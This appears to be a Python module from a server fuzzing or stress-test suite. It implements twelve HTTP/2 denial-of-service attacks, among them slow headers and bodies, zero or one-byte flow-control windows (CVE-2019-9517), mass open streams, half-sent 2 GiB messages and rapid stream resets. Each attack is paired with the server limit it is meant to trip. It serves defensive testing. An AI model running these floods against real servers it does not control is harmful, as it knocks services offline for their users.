"""Peers that take their time: to say who they are, to ask, to read what they asked for, or to be there at all."""

from __future__ import annotations

import struct
from typing import Final

import trio

from fuzz.attacks.attack import Attack
from fuzz.attacks.peer import Peer
from fuzz.attacks.wire import (
    END_HEADERS,
    PREFACE,
    Kind,
    frame,
    framed,
    greeting,
    infer_message,
    request_block,
    unary,
    window_update,
)

__all__ = [
    "AnnouncedLengths",
    "ClosedWindow",
    "DeafReader",
    "OpenStreams",
    "ResetUploads",
    "SilentConnections",
    "SlowBody",
    "SlowHeaders",
    "SlowPreface",
    "TinyWindow",
    "UnfinishedUploads",
    "Vanished",
]

_BLOCK: Final = request_block()
#: Between the bytes of those that say something now and then.
_PAUSE_S: Final = 0.1


def _asking_for(elements: int) -> bytes:
    """A request that is answered with so many floats."""
    return framed(infer_message("generator", [1], struct.pack("<q", elements), "INT64"))


#: A request that is answered with a MiB.
_LARGE: Final = _asking_for(262_144)


async def _begin_answers(peer: Peer, window: int, calls: int) -> int:
    """Have answers of 1 MiB wait for window; returns the id of the next stream."""
    await peer.send(greeting(stream_window=window))
    for stream_id in range(1, 2 * calls, 2):
        await peer.send(unary(stream_id, _BLOCK, _LARGE), 1)
    return 2 * calls + 1


async def _keep_answers(peer: Peer, next_id: int) -> int:
    """Ask for one more where all were refused, for a ring that is full; returns the id of the next stream."""
    if 2 * peer.answered < next_id - 1:
        return next_id
    await peer.send(unary(next_id, _BLOCK, _LARGE), 1)
    return next_id + 2


class SilentConnections(Attack):
    """Connections on which nothing is ever said."""

    name = "silent-connections"
    summary = "200 connections on which nothing is said"
    limit = "`--limit handshake_timeout` (20 s)"
    stops = ("closed", "reset", "GOAWAY")
    connections = 200

    async def strike(self, peer: Peer) -> None:
        await peer.wait_over()


class SlowPreface(Attack):
    """The preface, a byte at a time."""

    name = "slow-preface"
    summary = "200 connections that send the HTTP/2 preface byte by byte"
    limit = "`--limit handshake_timeout` (20 s)"
    stops = ("closed", "reset", "GOAWAY")
    connections = 200

    async def strike(self, peer: Peer) -> None:
        await peer.dribble(PREFACE, 1.0)
        await peer.wait_over()


class SlowHeaders(Attack):
    """A header block, a byte at a time."""

    name = "slow-headers"
    summary = "50 connections that send a header block byte by byte"
    limit = "`--limit stall_timeout` (60 s)"
    stops = ("closed", "reset", "GOAWAY")
    connections = 50

    async def strike(self, peer: Peer) -> None:
        await peer.send(greeting())
        await peer.dribble(frame(Kind.HEADERS, END_HEADERS, 1, _BLOCK), _PAUSE_S)
        await peer.wait_over()


class SlowBody(Attack):
    """A request's message, a byte at a time."""

    name = "slow-body"
    summary = "50 connections that send a request's message in DATA frames of a byte"
    limit = "`--limit stall_timeout` (60 s): 64 KiB at least in that time"
    stops = ("closed", "reset", "GOAWAY")
    connections = 50

    async def strike(self, peer: Peer) -> None:
        await peer.send(greeting() + frame(Kind.HEADERS, END_HEADERS, 1, _BLOCK))
        await peer.send(frame(Kind.DATA, 0, 1, struct.pack(">BI", 0, 1_000_000)))
        byte = frame(Kind.DATA, 0, 1, b"\0")
        while True:
            await peer.dribble(byte, _PAUSE_S, size=len(byte))


class ClosedWindow(Attack):
    """Answers that no window is given for."""

    name = "closed-window"
    cve = "CVE-2019-9517"
    summary = "answers of 1 MiB without a window to send them in"
    limit = "`--limit server_buffer` (half of the memory); `--limit stall_timeout` (60 s)"
    stops = ("closed", "reset", "GOAWAY")

    async def strike(self, peer: Peer) -> None:
        next_id = await _begin_answers(peer, window=0, calls=100)
        while True:
            next_id = await _keep_answers(peer, next_id)
            await peer.pause(_PAUSE_S)


class TinyWindow(Attack):
    """Answers that are taken a byte at a time, and slowly."""

    name = "tiny-window"
    summary = "answers of 1 MiB, taken a byte at a time"
    limit = "`--limit stall_timeout` (60 s): 64 KiB at least in that time"
    stops = ("closed", "reset", "GOAWAY")

    async def strike(self, peer: Peer) -> None:
        next_id = await _begin_answers(peer, window=1, calls=10)
        while True:
            next_id = await _keep_answers(peer, next_id)
            for open_id in range(max(1, next_id - 20), next_id, 2):
                await peer.dribble(window_update(open_id, 1), _PAUSE_S, size=13)


class DeafReader(Attack):
    """Answers of 100 MB that are asked for, and not read from the socket."""

    name = "deaf-reader"
    cve = "CVE-2019-9517"
    summary = "answers of 100 MB, with windows for all of them, that are never read from the socket"
    limit = "no request is read while 4 MiB wait for the socket; `--limit server_buffer` (half of the memory); "
    limit += "`--limit stall_timeout` (60 s)"
    stops = ("closed", "reset", "GOAWAY")
    connections = 2
    receive_buffer = 4_096
    reads = False

    async def strike(self, peer: Peer) -> None:
        await peer.send(greeting())
        body = _asking_for(25_000_000)
        for stream_id in range(1, 20, 2):
            await peer.send(unary(stream_id, _BLOCK, body), 1)
        # Nothing is read, so only a write shows that the connection is over.
        while True:
            await trio.sleep(_PAUSE_S)
            await peer.send(frame(Kind.PRIORITY, 0, 1, bytes(5)))


class OpenStreams(Attack):
    """As many calls as the server takes, none of them ever made whole."""

    name = "open-streams"
    summary = "50,000 calls per connection that are begun and left at that"
    limit = "`--limit streams` (100000); `--limit stall_timeout` (60 s)"
    stops = ("closed", "reset", "GOAWAY")
    connections = 2

    async def strike(self, peer: Peer) -> None:
        await peer.send(greeting())
        for first in range(1, 100_000, 2_000):
            await peer.send(
                b"".join(
                    frame(Kind.HEADERS, END_HEADERS, stream_id, _BLOCK) for stream_id in range(first, first + 2_000, 2)
                ),
                1_000,
            )
        await peer.wait_over()


class UnfinishedUploads(Attack):
    """Large messages, all but their last byte."""

    name = "unfinished-uploads"
    summary = "messages of 4 MB, sent but for their last byte and left at that"
    limit = "`--limit connection_buffer` (2 GiB), `--limit server_buffer` (half of the memory): "
    limit += "RESOURCE_EXHAUSTED; `--limit stall_timeout` (60 s)"
    stops = ("closed", "reset", "GOAWAY", "grpc-status 8")
    connections = 2

    async def strike(self, peer: Peer) -> None:
        await peer.send(greeting())
        piece = bytes(16_384)
        for stream_id in range(1, 60, 2):
            await peer.send(frame(Kind.HEADERS, END_HEADERS, stream_id, _BLOCK), 1)
            await peer.send(frame(Kind.DATA, 0, stream_id, struct.pack(">BI", 0, 4_000_001)))
            for _ in range(4_000_000 // len(piece)):
                await peer.send(frame(Kind.DATA, 0, stream_id, piece))
        await peer.wait_over()


class AnnouncedLengths(Attack):
    """Messages of 2 GiB of which only the beginning comes, and not to the end of its frame."""

    name = "announced-lengths"
    summary = "1,000 connections, each with five messages of 2 GiB, of which 20 KB come, half a frame last"
    limit = "memory grows with what has come; `--limit stall_timeout` (60 s)"
    stops = ("closed", "reset", "GOAWAY")
    connections = 1_000

    async def strike(self, peer: Peer) -> None:
        await peer.send(greeting())
        begin = struct.pack(">BI", 0, 2**31 - 1) + bytes(16_379)
        for stream_id in range(1, 11, 2):
            await peer.send(frame(Kind.HEADERS, END_HEADERS, stream_id, _BLOCK), 1)
            await peer.send(frame(Kind.DATA, 0, stream_id, begin))
        await peer.send(frame(Kind.DATA, 0, 9, bytes(500_000))[:4_000])
        await peer.wait_over()


class ResetUploads(Attack):
    """Large messages that are reset when some of them is there."""

    name = "reset-uploads"
    summary = "messages of 1 MB, each reset after 20 KB"
    limit = "`--limit resets` (200 beyond one of two calls)"
    stops = ("GOAWAY ENHANCE_YOUR_CALM",)
    connections = 1  # a slow machine makes too few for several: 400 a second are allowed on each

    async def strike(self, peer: Peer) -> None:
        await peer.send(greeting())
        upload = struct.pack(">BI", 0, 1_000_000) + bytes(19_995)
        stream_id = 1
        while True:
            octets = frame(Kind.HEADERS, END_HEADERS, stream_id, _BLOCK)
            octets += b"".join(
                frame(Kind.DATA, 0, stream_id, upload[at : at + 16_384]) for at in range(0, 20_000, 16_384)
            )
            await peer.send(octets + frame(Kind.RST_STREAM, 0, stream_id, struct.pack(">I", 8)), 1)
            stream_id += 2


class Vanished(Attack):
    """Clients whose machine is gone: nothing ends the connection, and nothing answers any more."""

    name = "vanished-peer"
    summary = "50 connections whose process is then suspended: no FIN, no answer"
    limit = "`--limit keepalive_time` (300 s) and `--limit keepalive_timeout` (20 s)"
    stops = ("closed", "reset", "GOAWAY")
    connections = 50
    freezes = True

    async def strike(self, peer: Peer) -> None:
        body = framed(infer_message("victim", [1, 4], bytes(16)))
        await peer.send(greeting() + unary(1, _BLOCK, body), 1)
        if not peer.answered:
            await peer.wait_answer()
        peer.note_ready()
        await peer.wait_over()
